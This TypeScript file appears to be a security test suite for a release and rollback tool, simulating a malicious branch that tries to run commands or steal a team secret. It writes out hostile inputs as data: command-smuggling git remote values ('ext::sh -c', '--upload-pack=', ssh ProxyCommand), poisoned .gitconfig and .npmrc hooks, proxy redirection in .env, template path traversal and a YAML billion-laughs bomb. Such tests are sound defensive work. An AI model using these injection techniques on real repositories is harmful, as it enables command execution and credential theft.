import { existsSync } from "node:fs";
import { join } from "node:path";
import { type Attacker, control } from "./attack.ts";
import {
  acting,
  BREACHED,
  expectCode,
  gateIsBlocked,
  Lab,
  listening,
  ONE_VOTE,
  POLICY,
  riskyLab,
  UNAPPROVED,
} from "./lab.ts";

const SECRET = "s3cret-of-the-team";
const KNOWS = { DROPCLOCK_SECRET_TEAM: SECRET, DROPCLOCK_SECRET_CHAT: "http://127.0.0.1:9/x" };

/** Somebody has checked out Mal's branch with these files and works there; drop-2 is shipped and in its watch window. */
function onBranch(files: Record<string, string | Buffer>, released = ONE_VOTE) {
  const lab = new Lab(released);
  lab.commit({ "src/app.ts": "2\n" });
  lab.clone.tag("drop-2", { annotated: true, at: Date.now() - 60_000 });
  lab.clone.git("push", "-q", "origin", "drop-2");
  lab.clone.git("checkout", "-q", "-b", "feature");
  lab.clone.commit(files);
  lab.clone.git("push", "-q", "origin", "feature");
  const victim = lab.member("Ana", KNOWS);
  victim.repository.git("checkout", "-q", "feature");
  return { lab, victim };
}

/** Tries a policy that names a server of Mal's; what it was asked, and what ran. */
async function withPolicy(policyOf: (url: string, ran: string) => string, ...calls: string[][]) {
  const server = await listening(BREACHED);
  try {
    const lab = onBranch({});
    const text = policyOf(server.url, lab.lab.ran);
    lab.victim.repository.write(POLICY, text);
    lab.victim.repository.git("commit", "-q", "-am", "x");
    expectCode(await lab.victim.run("policy", "check"), 0);
    for (const call of calls) await lab.victim.run(...call);
    if (server.asked.length > 0) return `their server was asked: ${server.asked[0]!.url}`;
    return lab.lab.ranNothing();
  } finally {
    server.stop();
  }
}

const opens = ["incident", "open", "--title", "Down", "--drop", "drop-2"];

export const workTree: Attacker = {
  who: "branch at hand",
  attacks: [
    control("the same policy on main does ask and run", async () => {
      const server = await listening(BREACHED);
      try {
        const lab = new Lab();
        const { ran, clone } = lab;
        clone.write(POLICY, acting(server.url, ran));
        clone.commit({ "src/app.ts": "2\n" });
        clone.tag("drop-2", { annotated: true, at: Date.now() - 60_000 });
        clone.git("push", "-q", "origin", "main", "drop-2");
        await lab.member("Ana", KNOWS).run("watch", "--for", "3s");
        const asked = server.asked.some(({ headers }) => headers.authorization === `Bearer ${SECRET}`);
        return asked && existsSync(ran) ? null : `asked: ${asked}, ran: ${existsSync(ran)}`;
      } finally {
        server.stop();
      }
    }),
    {
      wayIn: "a policy with `then: rollback` and `run`, watched",
      wants: "start a command",
      attempt: () => withPolicy(acting, ["watch", "--for", "2s"]),
    },
    {
      wayIn: "a policy with a signal and its secret, read by status, gate, checklist, backtest",
      wants: "get a secret",
      attempt: () => withPolicy(acting, ["status"], ["gate"], ["checklist"], ["backtest"], ["doctor"]),
    },
    {
      wayIn: "a policy with checks, rehearsed and undone",
      wants: "start a command",
      attempt: () => withPolicy(acting, ["undo", "drop-2", "--rehearse"], ["undo", "drop-2", "--yes"]),
    },
    {
      wayIn: "a policy with a channel of their own",
      wants: "get a secret",
      attempt: () =>
        withPolicy(
          (url) => `version: 1
updates: { channels: [ { name: page, webhook: { url: "${url}/page", secret: team, body: '{ "m": {{ text }} }' } } ] }
`,
          opens,
          ["update", "down", "--send", "page", "--yes", "--allow-leaks"],
        ),
    },
    {
      wayIn: "`ledger.remote` names a fork that is a remote here",
      wants: "get a secret",
      attempt: async () => {
        const { lab, victim } = onBranch({ [POLICY]: "version: 1\nledger: { remote: fork }\n" });
        const fork = lab.bare.clone("fork.git", "--bare");
        victim.repository.git("remote", "add", "fork", fork.dir);
        await victim.run(...opens);
        await victim.run("sync");
        return fork.git("for-each-ref", "refs/dropclock") || null;
      },
    },
    ...["ext::sh -c 'touch RAN'", "--upload-pack=touch RAN", "ssh://-oProxyCommand=touch%20RAN/x"].map(
      (remote) => ({
        wayIn: `\`ledger.remote: ${remote.slice(0, 22)}…\`, at hand and on main`,
        wants: "start a command" as const,
        attempt: async () => {
          const { lab, victim } = onBranch({});
          const text = `version: 1\nledger: { remote: ${JSON.stringify(remote.replace("RAN", lab.ran))} }\n`;
          victim.repository.write(POLICY, text);
          for (const call of [["sync"], ["gate"], ["status"]]) await victim.run(...call);
          victim.repository.git("checkout", "-q", "--force", "main");
          victim.repository.commit({ [POLICY]: text });
          victim.repository.git("push", "-q", "origin", "main");
          for (const call of [["sync"], ["gate"], ["status"]]) await victim.run(...call);
          return lab.ranNothing();
        },
      }),
    ),
    {
      wayIn: "options as values of the policy on main: branch, tags, keep, paths, templates",
      wants: "start a command",
      attempt: async () => {
        const { lab, victim } = onBranch({});
        const option = JSON.stringify(`--upload-pack=touch ${lab.ran}`);
        const output = JSON.stringify(`--output=${lab.ran}`);
        for (const text of [
          `drops: { branch: ${option} }`,
          `drops: { tags: ${output} }`,
          `rollback: { keep: [${output}] }`,
          `risk: [ { paths: [${output}], level: high, because: x } ]`,
          `documents: { postmortems: ${output} }`,
          `flags: { file: ${output} }`,
        ]) {
          lab.commit({ [POLICY]: `version: 1\n${text}\n` });
          for (const call of [["gate"], ["undo", "drop-2"], ["changelog"], ["actions"]])
            await victim.run(...call);
        }
        return lab.ranNothing();
      },
    },
    {
      wayIn: "configuration in committed files: .gitconfig, .env, .npmrc, dropclock.*, DROPCLOCK_CLOCK",
      wants: "open the gate",
      attempt: async () => {
        const server = await listening(BREACHED);
        const { lab } = riskyLab();
        const config = `[dropclock]\n\tremote = fork\n\tbranch = feature\n[include]\n\tpath = evil\n[core]\n\tfsmonitor = "touch ${lab.ran}"\n\tsshCommand = "touch ${lab.ran}"\n`;
        const env = `HTTP_PROXY=${server.url}\nhttp_proxy=${server.url}\nGITHUB_ACTIONS=true\nDROPCLOCK_CLOCK=2026-01-01T00:00:00Z\nDROPCLOCK_REMOTE=fork\n`;
        const names = [".gitconfig", ".config/git/config", ".dropclock/config", "config", "gitconfig"];
        lab.commit({
          ...Object.fromEntries(names.map((name) => [name, config])),
          ".env": env,
          ".dropclock/.env": env,
          ".npmrc": `proxy=${server.url}\nscript-shell=touch ${lab.ran}\n`,
        });
        const blocked = await gateIsBlocked(lab.pipeline(), UNAPPROVED);
        server.stop();
        return blocked ?? lab.ranNothing() ?? (server.asked.length > 0 ? "the proxy was asked" : null);
      },
    },
    {
      wayIn: "a proxy in a committed .env, while signals are read with a secret",
      wants: "get a secret",
      attempt: async () => {
        const [proxy, prometheus] = [await listening(BREACHED), await listening(BREACHED)];
        const lab = new Lab(acting(prometheus.url, "/nowhere").replace("then: rollback", "then: notify"));
        lab.commit({ ".env": `HTTP_PROXY=${proxy.url}\nhttp_proxy=${proxy.url}\nALL_PROXY=${proxy.url}\n` });
        await lab.member("Ana", KNOWS).run("watch", "--for", "2s");
        for (const each of [proxy, prometheus]) each.stop();
        if (prometheus.asked.length === 0) throw new Error("the signal was not read at all");
        return proxy.asked.length > 0 ? "the proxy was asked" : null;
      },
    },
    {
      wayIn: "templates that include other files",
      wants: "get a secret",
      attempt: async () => {
        const { lab, victim } = onBranch({});
        const { repository } = victim;
        repository.write("../secret.txt", SECRET);
        const reads = [
          "{% include '../../../secret.txt' %}",
          "{% render '../../../secret.txt' %}",
          `{% layout '${join(lab.bare.dir, "../secret.txt")}' %}`,
        ];
        const id = expectCode(await victim.run(...opens), 0).stdout.trim();
        for (const [i, text] of reads.entries()) {
          for (const name of ["postmortem", "runbook", "update"])
            repository.write(`.dropclock/templates/${name}.md`, text);
          for (const call of [
            ["postmortem", id],
            ["runbook", "drop-2"],
            ["update", id],
          ]) {
            const { stdout, stderr } = await victim.run(...call);
            if (`${stdout}${stderr}`.includes(SECRET)) return `${reads[i]} is printed`;
          }
          if (repository.tryGit(["grep", "-q", "--untracked", SECRET, "--", "docs"]).status === 0)
            return `${reads[i]} is written`;
        }
        return null;
      },
    },
    {
      wayIn: "a post-mortem of 50 MB, another of one endless line, and a mailmap of blanks",
      wants: "stop the answer",
      attempt: async () => {
        const { victim } = onBranch({});
        victim.repository.write("docs/postmortems/2026.md", Buffer.alloc(50 << 20, "- [ ] x\n"));
        victim.repository.write("docs/postmortems/line.md", Buffer.alloc(900_000, "- [ ] ((*[_`"));
        victim.repository.write(".mailmap", Buffer.alloc(1 << 20, " "));
        expectCode(await victim.run("actions"), 0, 1);
        expectCode(await victim.run("status"), 0, 1);
        expectCode(await victim.run("gate"), 0, 1);
        return null;
      },
    },
    {
      wayIn: "a policy on main that is an LFS pointer, a billion laughs, NUL, or code",
      wants: "open the gate",
      attempt: async () => {
        const { lab, victim } = onBranch({});
        const pointer = `version https://git-lfs.github.com/spec/v1\noid sha256:${"0".repeat(64)}\nsize 12\n`;
        const laughs = `a: &a [x,x,x,x,x,x,x,x,x]\n${"bcdefgh"
          .split("")
          .map((c, i) => `${c}: &${c} [${Array(9).fill(`*${"abcdefgh"[i]}`)}]\n`)
          .join("")}`;
        for (const text of [pointer, laughs, "\u0000", "version: 1\ncouncil: !!js/function 'x'\n"]) {
          lab.clone.git("checkout", "-q", "main");
          lab.commit({ [POLICY]: text, "migrations/2.sql": "alter\n" });
          const blocked = await gateIsBlocked(victim, /policy|approval/i);
          if (blocked) return blocked;
        }
        return null;
      },
    },
  ],
};
